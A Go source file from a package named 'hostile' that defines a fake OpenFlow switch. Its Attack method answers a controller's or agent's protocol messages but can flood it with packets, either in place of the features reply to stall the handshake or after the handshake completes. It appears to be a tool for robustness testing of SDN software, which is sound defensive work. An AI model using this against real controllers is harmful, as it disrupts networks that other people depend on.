package hostile

import (
	"context"
	"encoding/binary"
	"net"
)

// Switch claims to be a switch without an agent that has bundles and roles.
type Switch struct {
	Datapath uint64
	From     string // local IP address; empty: any
	// Dial makes the connection; nil: over TCP.
	Dial func(ctx context.Context, address string) (net.Conn, error)
	// Early packets are sent in place of an answer to FEATURES_REQUEST: so the handshake does not end. Packets are sent
	// behind the handshake. Each has Size bytes.
	Early, Packets, Size int
	// Up is called when the handshake is complete and everything is sent; may be nil.
	Up func()
}

// Attack connects to a controller or an agent, and goes on until the other side closes the connection, or ctx ends. It
// reads and answers all the time, so that its connection lives as long as the other side likes.
func (s Switch) Attack(ctx context.Context, address string) error {
	c, err := dial(ctx, s.From, address, s.Dial)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.send(message(hello, 1)); err != nil {
		return err
	}
	for up := false; ; {
		msg, err := c.read()
		if err != nil {
			return err
		}
		var answers [][]byte
		switch xid := xidOf(msg); msg[1] {
		case echoRequest:
			msg[1] = echoReply
			answers = append(answers, msg)
		case featuresRequest:
			if s.Early > 0 {
				answers = append(answers, s.packets(s.Early))
				break
			}
			answers = append(answers, features(s.Datapath, xid))
		case multipart: // of whatever is asked, nothing
			answers = append(answers, message(multipartReply, xid, msg[8:10], make([]byte, 6)))
		case barrierRequest:
			answers = append(answers, message(barrierReply, xid))
		case roleRequest:
			msg[1] = roleReply
			answers = append(answers, msg)
		case experimenter: // of the ONF, to control a bundle; each type of reply is one more than that of the request
			if binary.BigEndian.Uint32(msg[8:]) == onf && binary.BigEndian.Uint32(msg[12:]) == bundleControl {
				binary.BigEndian.PutUint16(msg[20:], binary.BigEndian.Uint16(msg[20:])+1)
				answers = append(answers, msg)
			}
		}
		// To ports (13) is the last answer of a handshake with an agent, and the barrier of one with a controller.
		if last := msg[1] == multipart && binary.BigEndian.Uint16(msg[8:]) == 13; last && !up {
			up = true
			if s.Packets > 0 {
				answers = append(answers, s.packets(s.Packets))
			}
		}
		if err := c.send(answers...); err != nil {
			return err
		}
		if up && s.Up != nil {
			s.Up()
			s.Up = nil
		}
	}
}

func (s Switch) packets(n int) (b []byte) {
	for range n {
		b = append(b, packet(s.Size)...)
	}
	return b
}
